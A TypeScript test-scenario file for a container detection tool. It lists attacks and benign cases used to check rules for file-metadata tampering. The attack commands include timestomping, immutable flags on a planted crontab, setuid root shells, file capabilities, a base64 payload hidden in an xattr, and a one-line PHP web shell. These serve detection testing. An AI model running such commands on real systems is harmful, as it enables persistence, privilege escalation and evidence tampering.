// SPDX-License-Identifier: Apache-2.0
/**
 * Scenarios of file metadata tampering (issue 19, class 3); spread into ATTACKS and BENIGN by
 * table.ts. Each rule family runs in several variants: busybox applets as an image ships them,
 * `vigil-attack` modes for the calls busybox has no applet for (each call of a family: utimensat,
 * futimens, futimesat, utimes; FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR; setxattr, lsetxattr,
 * fsetxattr; fchmodat2), the unprivileged web pod (root without CAP_LINUX_IMMUTABLE: refused
 * attempts), the privileged pod, and a non-root user. Files made immutable or append-only are
 * cleared again in the same command, so the pod can be removed.
 */
import type { Scenario } from "./table.js";

const T = "/opt/tools";
const A = `${T}/vigil-attack`;
const TOOL = "mkdir -p /usr/local/bin && cp /bin/busybox /usr/local/bin/tool";

export const ATTACKS_TAMPER: readonly Scenario[] = [
  // ---------------------------------------------------------------- timestomping
  {
    name: "timestomp a planted binary with busybox touch -d",
    technique: "T1070.006",
    pod: "web",
    expect: "Timestomping Of System File",
    setup: TOOL,
    cmd: "touch -d '2019-03-14 09:26:53' /usr/local/bin/tool",
  },
  {
    name: "copy a system file's times onto /etc/passwd with touch -r",
    technique: "T1070.006",
    pod: "web",
    expect: "Timestomping Of System File",
    cmd: "/applets/touch -r /bin/busybox /etc/passwd",
  },
  {
    name: "timestomp through futimens (utimensat on an fd)",
    technique: "T1070.006",
    pod: "web",
    expect: "Timestomping Of System File",
    setup: TOOL,
    cmd: `${A} utime futimens /usr/local/bin/tool`,
  },
  {
    name: "timestomp through futimesat from the binary's directory",
    technique: "T1070.006",
    pod: "priv",
    expect: "Timestomping Of System File",
    setup: TOOL,
    cmd: `cd /usr/local/bin && ${A} utime futimesat tool`,
  },
  {
    name: "timestomp a web shell with utimes",
    technique: "T1070.006",
    pod: "web",
    expect: "Timestomping Of System File",
    setup: "mkdir -p /www && echo '<?php system($_GET[c]); ?>' > /www/.cache.php",
    cmd: `${A} utime utimes /www/.cache.php`,
  },
  {
    name: "backdate only the mtime of a library (UTIME_OMIT atime)",
    technique: "T1070.006",
    pod: "web",
    expect: "Timestomping Of System File",
    setup: "mkdir -p /usr/lib && cp /bin/busybox /usr/lib/libhook.so",
    cmd: `${A} utime mtime-only /usr/lib/libhook.so`,
  },
  // ---------------------------------------------------------------- immutable / append-only
  {
    name: "make a persistence file immutable (chattr +i)",
    technique: "T1222.002",
    pod: "priv",
    expect: "Immutable Or Append-Only Flag Set",
    setup: "echo '* * * * * root sh /tmp/x' > /etc/crontab.evil",
    cmd: `${A} chattr +i /etc/crontab.evil; ${A} chattr -i /etc/crontab.evil`,
  },
  {
    name: "make a log append-only (chattr +a)",
    technique: "T1222.002",
    pod: "priv",
    expect: "Immutable Or Append-Only Flag Set",
    setup: "mkdir -p /var/log && echo x > /var/log/auth.log",
    cmd: `${A} chattr +a /var/log/auth.log; ${A} chattr -a /var/log/auth.log`,
  },
  {
    name: "make a binary immutable through FS_IOC_FSSETXATTR (xfs_io chattr)",
    technique: "T1222.002",
    pod: "priv",
    expect: "Immutable Or Append-Only Flag Set",
    setup: TOOL,
    cmd: `${A} fsxattr +i /usr/local/bin/tool; ${A} fsxattr -i /usr/local/bin/tool`,
  },
  {
    name: "chattr +i refused in an unprivileged container",
    technique: "T1222.002",
    pod: "web",
    expect: "Immutable Or Append-Only Flag Set",
    setup: TOOL,
    cmd: `${A} chattr +i /usr/local/bin/tool; true`,
  },
  {
    name: "clear the immutable flag of a file (chattr -i)",
    technique: "T1222.002",
    pod: "priv",
    expect: "Inode Flags Changed In Container",
    setup: `echo x > /etc/locked && ${A} chattr +i /etc/locked`,
    cmd: `${A} chattr -i /etc/locked`,
  },
  {
    name: "clear the append-only flag of a log in an unprivileged container",
    technique: "T1222.002",
    pod: "web",
    expect: "Inode Flags Changed In Container",
    setup: "mkdir -p /var/log && echo x > /var/log/app.log",
    cmd: `${A} chattr -a /var/log/app.log`,
  },
  {
    name: "clear inode flags through FS_IOC_FSSETXATTR",
    technique: "T1222.002",
    pod: "web",
    expect: "Inode Flags Changed In Container",
    setup: TOOL,
    cmd: `${A} fsxattr -a /usr/local/bin/tool`,
  },
  // ---------------------------------------------------------------- file capabilities
  {
    name: "give a shell cap_setuid with setxattr (setcap)",
    technique: "T1548",
    pod: "web",
    expect: "File Capabilities Set",
    setup: "cp /bin/busybox /tmp/capsh",
    cmd: `${A} setcap setxattr /tmp/capsh`,
  },
  {
    name: "file capabilities through lsetxattr",
    technique: "T1548",
    pod: "priv",
    expect: "File Capabilities Set",
    setup: TOOL,
    cmd: `${A} setcap lsetxattr /usr/local/bin/tool`,
  },
  {
    name: "file capabilities through fsetxattr",
    technique: "T1548",
    pod: "web",
    expect: "File Capabilities Set",
    setup: "cp /bin/busybox /tmp/capsh2",
    cmd: `${A} setcap fsetxattr /tmp/capsh2`,
  },
  {
    name: "file capabilities refused to a non-root user",
    technique: "T1548",
    pod: "web",
    expect: "File Capabilities Set",
    user: "1000",
    setup: "cp /bin/busybox /tmp/capsh3 && chown 1000 /tmp/capsh3",
    cmd: `${A} setcap setxattr /tmp/capsh3; true`,
  },
  // ---------------------------------------------------------------- other extended attributes on binaries
  {
    name: "hide a payload in a user.* attribute of a binary",
    technique: "T1222.002",
    pod: "web",
    expect: "Extended Attribute Set On System Binary",
    setup: TOOL,
    cmd: `${A} xattr setxattr /usr/local/bin/tool user.payload 'ZWNobyBwd25lZAo='`,
  },
  {
    name: "attribute on the image's busybox through fsetxattr",
    technique: "T1222.002",
    pod: "web",
    expect: "Extended Attribute Set On System Binary",
    cmd: `${A} xattr fsetxattr /bin/busybox user.hidden 1`,
  },
  {
    name: "plant a trusted.overlay attribute on a binary",
    technique: "T1222.002",
    pod: "priv",
    expect: "Extended Attribute Set On System Binary",
    setup: TOOL,
    cmd: `${A} xattr lsetxattr /usr/local/bin/tool trusted.overlay.redirect /tmp/x`,
  },
  // ---------------------------------------------------------------- setuid / setgid through fchmodat2
  {
    name: "setuid root shell through fchmodat2",
    technique: "T1548.001",
    pod: "web",
    expect: "Setuid Or Setgid Bit Set",
    setup: "cp /bin/busybox /tmp/rootsh2",
    cmd: `${A} fchmodat2 4755 /tmp/rootsh2`,
  },
  {
    name: "setgid through fchmodat2 by a non-root user on its own file",
    technique: "T1548.001",
    pod: "web",
    expect: "Setuid Or Setgid Bit Set",
    user: "1000",
    setup: "cp /bin/busybox /tmp/usersh && chown 1000:1000 /tmp/usersh",
    cmd: `${A} fchmodat2 2755 /tmp/usersh`,
  },
  {
    name: "setuid and setgid on a binary in /usr/local/bin through fchmodat2",
    technique: "T1548.001",
    pod: "priv",
    expect: "Setuid Or Setgid Bit Set",
    setup: TOOL,
    cmd: `${A} fchmodat2 6755 /usr/local/bin/tool`,
  },
];

/**
 * Timestamps kept by archive and copy tools, and times set to now: silent (see 41-tamper.yaml).
 * cp runs as its own program (/applets/cp, as in an image with coreutils): busybox's shell runs its
 * cp applet in a fork without exec (NOEXEC), where the times are set by a process that still reads
 * as the shell, which the rule cannot tell from the shell timestomping (41-tamper.yaml).
 */
export const BENIGN_TAMPER: readonly Scenario[] = [
  {
    name: "deploy a site into the web root with tar, keeping its times",
    technique: "-",
    pod: "benign",
    expect: null,
    cmd: "mkdir -p /tmp/rel/site && echo hi > /tmp/rel/site/index.html && tar cf /tmp/rel.tar -C /tmp/rel site && mkdir -p /srv/www && tar xf /tmp/rel.tar -C /srv/www && rm -rf /tmp/rel /tmp/rel.tar",
  },
  {
    name: "copy a page into the web root with cp -p",
    technique: "-",
    pod: "benign",
    expect: null,
    cmd: "echo page > /tmp/page.html && mkdir -p /srv/www && /applets/cp -p /tmp/page.html /srv/www/page.html && rm -f /tmp/page.html",
  },
  { name: "touch a web-root file to now", technique: "-", pod: "benign", expect: null, cmd: "mkdir -p /srv/www && touch /srv/www/index.html" },
];
